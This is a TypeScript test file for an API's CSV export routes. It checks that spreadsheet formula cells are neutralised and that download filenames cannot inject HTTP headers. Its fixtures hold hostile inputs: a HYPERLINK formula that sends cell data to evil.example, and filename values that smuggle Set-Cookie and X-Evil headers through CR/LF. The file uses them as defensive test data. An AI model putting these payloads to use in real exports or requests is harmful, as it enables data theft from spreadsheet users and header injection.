import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { testDrivers } from "@cchc/db/testing";
import { runImport } from "@cchc/import";
import contentDisposition from "content-disposition";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { attachment } from "../src/export-route";
import { type Started, startApi } from "./helpers";

const HEADER = "Ngày bắt đầu,Ngày kết thúc,Đơn vị,Hình thức,Kênh,Nội dung,Tiêu đề,Ghi chú,Số lượt tiếp cận\n";
const TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';

describe("attachment (Content-Disposition of a download)", () => {
  it("keeps CR, LF, quotes and separators out of the header; Vietnamese names get a UTF-8 filename*", () => {
    const header = attachment('chuoi-PAPI-40"\r\nSet-Cookie: a=1; x="', "csv");
    expect(header).not.toMatch(/[\r\n]/);
    expect(header).toBe('attachment; filename="chuoi-PAPI-40-Set-Cookie-a-1-x.csv"');
    expect(contentDisposition.parse(header).parameters.filename).toBe("chuoi-PAPI-40-Set-Cookie-a-1-x.csv");
    const vi = attachment("hồ-sơ/../Nghệ An", "xlsx");
    expect(vi).toMatch(/^attachment; filename="[^"/]*"; filename\*=UTF-8''/);
    expect(contentDisposition.parse(vi).parameters.filename).toBe("hồ-sơ-..-Nghệ-An.xlsx");
    expect(attachment("", "csv")).toBe('attachment; filename="tai-xuong.csv"');
  });
});

describe.each(testDrivers())("CSV downloads cannot run formulas or inject headers on %s", (driver) => {
  let api: Started;
  let dir: string;
  beforeAll(async () => {
    api = await startApi(driver);
    dir = mkdtempSync(join(tmpdir(), "export-safety-"));
    const path = join(dir, "log.csv");
    const title = `"${TITLE.replaceAll('"', '""')}"`;
    writeFileSync(
      path,
      `${HEADER}01/02/2031,01/02/2031,Văn phòng Sở,F2,@SUM(1+1),N03,${title},-2+3,5\n` +
        `02/02/2031,02/02/2031,Văn phòng Sở,F2,"\tkênh",N03,+thông báo,"\rghi chú",7\n`,
    );
    const report = await runImport(api.handle.db, path, { by: "test" });
    expect([report.insert, report.rejected]).toEqual([2, []]);
  });
  afterAll(async () => {
    await api?.close();
    rmSync(dir, { recursive: true, force: true });
  });
  const get = (path: string) =>
    fetch(api.url.replace(/\/graphql$/, path), { headers: { authorization: `Bearer ${api.viewerToken}` } });

  it("prefixes text cells that start with = + - @ tab or CR with a quote, keeps numbers, and re-imports unchanged", async () => {
    const filter = encodeURIComponent(JSON.stringify({ from: "2031-01-01", to: "2031-12-31" }));
    const res = await get(`/export/activities.csv?filter=${filter}`);
    expect(res.status).toBe(200);
    const text = Buffer.from(await res.arrayBuffer())
      .subarray(3)
      .toString("utf8");
    const lines = text.trim().split("\n");
    expect(lines).toHaveLength(3);
    // The title is quoted text starting with '=, never a bare = a spreadsheet would evaluate.
    expect(lines[1]).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm vào đây"")"`);
    expect(lines[1]).toContain(",'@SUM(1+1),");
    expect(lines[1]).toContain(",'-2+3,");
    expect(lines[1]).not.toMatch(/(^|,)[=+@-]/);
    expect(lines[1]).toContain(",5,,'-2+3,");
    expect(text).toContain(",'+thông báo,");
    // (The importer trims the tab and CR of the second row; packages/import's csv-cells test covers them.)

    const back = join(dir, "back.csv");
    writeFileSync(back, text);
    const report = await runImport(api.handle.db, back, { by: "test" });
    expect([report.insert, report.update, report.unchanged, report.rejected]).toEqual([0, 0, 2, []]);
  });

  it("writes numbers as numbers, negative ones included", async () => {
    const text = Buffer.from(await (await get("/export/profile.csv?subject=40&year=2023")).arrayBuffer()).toString();
    expect(text.split("\n").find((l) => l.startsWith("PAPI,Tổng,"))).toContain(",,-8,");
  });

  it("builds Content-Disposition from a sanitised name, whatever the parameters hold", async () => {
    const subject = encodeURIComponent('40"\r\nSet-Cookie: stolen=1\r\nX-Evil: "');
    const res = await get(`/export/series.csv?subject=${subject}&index=PAPI`);
    expect(res.status).toBe(200);
    expect(res.headers.get("set-cookie")).toBeNull();
    expect(res.headers.get("x-evil")).toBeNull();
    const header = res.headers.get("content-disposition")!;
    expect(header).toBe('attachment; filename="chuoi-PAPI-40-Set-Cookie-stolen-1-X-Evil.csv"');
    expect(contentDisposition.parse(header).type).toBe("attachment");
    await res.arrayBuffer();
  });
});
